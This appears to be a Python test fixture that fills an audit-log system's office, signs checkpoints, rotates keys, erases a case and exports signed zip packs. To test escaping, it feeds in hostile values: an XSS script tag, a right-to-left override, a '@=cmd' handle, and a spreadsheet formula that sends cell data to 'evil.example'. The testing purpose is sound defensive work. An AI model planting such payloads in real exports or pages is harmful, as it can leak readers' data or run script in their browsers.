"""A filled office whose log is handed out, with everything in it that a pack can have.

Hostile words, a deed that was refused, a clock that went back, a new key, an erasure, checkpoints
from several moments, and receipts that somebody kept from before.
"""

import contextlib
import io
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import IO

from sqlalchemy import select

from config import Config
from convo.audit.note import PublicKey
from convo.audit.receipt import write_receipt
from convo.audit.signer import Signer
from convo.audit.tree import leaf_hash
from convo.db.door import guard_commits
from convo.db.engine import open_engine
from convo.db.models import AuditEntry
from convo.domain.actor import Actor
from convo.domain.erasing import Basis, Scope
from convo.domain.errors import NotPermitted
from convo.domain.vocabulary import ReplyState
from convo.factory import make_office
from convo.guidelines.engine import GuidelineSet
from convo.services import erasures
from convo.services.checkpoints import sign_now
from convo.services.exports import export_log
from convo.services.log_keys import make_key, rotate_key
from convo.services.office import Office
from convo.services.packs.building import write_pack
from tests.given import Given, SettableClock

DEPARTMENT = "Department for Examples"
ORIGIN = "convo.examples/audit"
#: What somebody may write who wants more of a report or a table than to be read.
HOSTILE = '<script>alert(1)</script> "quoted" &amp; \u202egnihton\u202c caf\u0065\u0301'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@dataclass(frozen=True, slots=True)
class Held:
    """A pack in memory, by the names of its files: what both verifiers in Python can read."""

    files: dict[str, bytes]
    #: Whether it is as in a folder, where people put other files beside a pack.
    is_loose: bool = False

    def names(self) -> list[str]:
        """Every file."""
        return sorted(self.files)

    def open(self, name: str) -> IO[bytes]:
        """The content of a file."""
        return io.BytesIO(self.files[name])


@dataclass(frozen=True, kw_only=True, slots=True)
class Handed:
    """A pack as it was handed out, and what people keep who were handed it."""

    content: bytes
    #: From before the newest entries: short, and with a fingerprint of each entry.
    receipts: dict[str, bytes]
    #: The log's first key.
    key: PublicKey
    #: A pack from before the erasure: whoever has it has the words that are gone.
    earlier: bytes

    @property
    def files(self) -> dict[str, bytes]:
        """Its files, unpacked."""
        return unpacked(self.content)


def unpacked(content: bytes) -> dict[str, bytes]:
    """The files of a zip file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(files: dict[str, bytes]) -> bytes:
    """A zip file of these."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return made.getvalue()


def signing(office: Office, keys: Path, clock: SettableClock) -> Given:
    """Somebody who fills this office, whose log has a key."""
    signer = Signer(keys, ORIGIN)
    return Given(
        replace(office, signer=signer, erasures=keys.with_suffix(".erasures"), clock=clock)
    )


def handed_out_of(url: str, folder: Path, guidelines: GuidelineSet | None = None) -> Handed:
    """Fill the office of an empty, migrated database and hand its log out; keys go to `folder`."""
    settings = {"CONVO_ENVIRONMENT": "test", "CONVO_DATABASE_URL": url}
    engine = open_engine(url)
    guard_commits(engine)
    clock = SettableClock()
    try:
        office = make_office(Config.from_environment(settings), engine, clock, guidelines)
        return handed_out(signing(office, folder / "keys", clock), clock)
    finally:
        engine.dispose()


def handed_out(given: Given, clock: SettableClock) -> Handed:
    """Fill the office and hand its log out, twice."""
    office = given.office
    key = make_key(office, Actor.operator())
    official = given.official(name=f"Asha {HOSTILE}")
    posted = given.reply(official, ReplyState.SIGNED_OFF, title=FORMULA, handle="@=cmd")
    given.post(posted, f"{HOSTILE} {FORMULA}")
    clock.advance(minutes=-3)
    waiting = given.reply(official, ReplyState.WITH_MENTOR)
    receipts = {"short.txt": sign_now(office).encode()}
    with contextlib.suppress(NotPermitted):
        given.sign_off(waiting, given.mentor())
    clock.advance(hours=1)
    rotate_key(office, Actor.operator())
    receipts["long.txt"] = write_receipt(sign_now(office), _hashes(office))
    asking = given.conversation(official)
    earlier = exported(office)
    _erase(given, asking.id)
    given.reply(official, ReplyState.SIGNED_OFF)
    return Handed(content=exported(office), receipts=receipts, key=key, earlier=earlier)


def exported(office: Office) -> bytes:
    """The pack of the whole log as it is now."""
    assert export_log(office, Actor.operator(), "pack") == ""
    made = io.BytesIO()
    write_pack(office, DEPARTMENT, made)
    return made.getvalue()


def _hashes(office: Office) -> Iterable[bytes]:
    with office.sessions() as session:
        leaves = session.scalars(select(AuditEntry.leaf).order_by(AuditEntry.seq)).all()
    return map(leaf_hash, leaves[: _size(office)])


def _size(office: Office) -> int:
    return int(sign_now(office).split("\n")[1])


def _erase(given: Given, conversation_id: int) -> None:
    """Every word of a case, on a request that somebody else approves."""
    asking, approving = given.press_officer(), given.press_officer()
    request = erasures.RequestErasure(
        conversation_id=conversation_id,
        scope=Scope.CASE,
        basis=Basis.DATA_PROTECTION,
        reason="They asked us to",
    )
    number = erasures.request_erasure(given.office, given.actor(asking), request)
    approval = erasures.ApproveErasure(request_id=number, version=1)
    erasures.approve_erasure(given.office, given.actor(approving), approval)
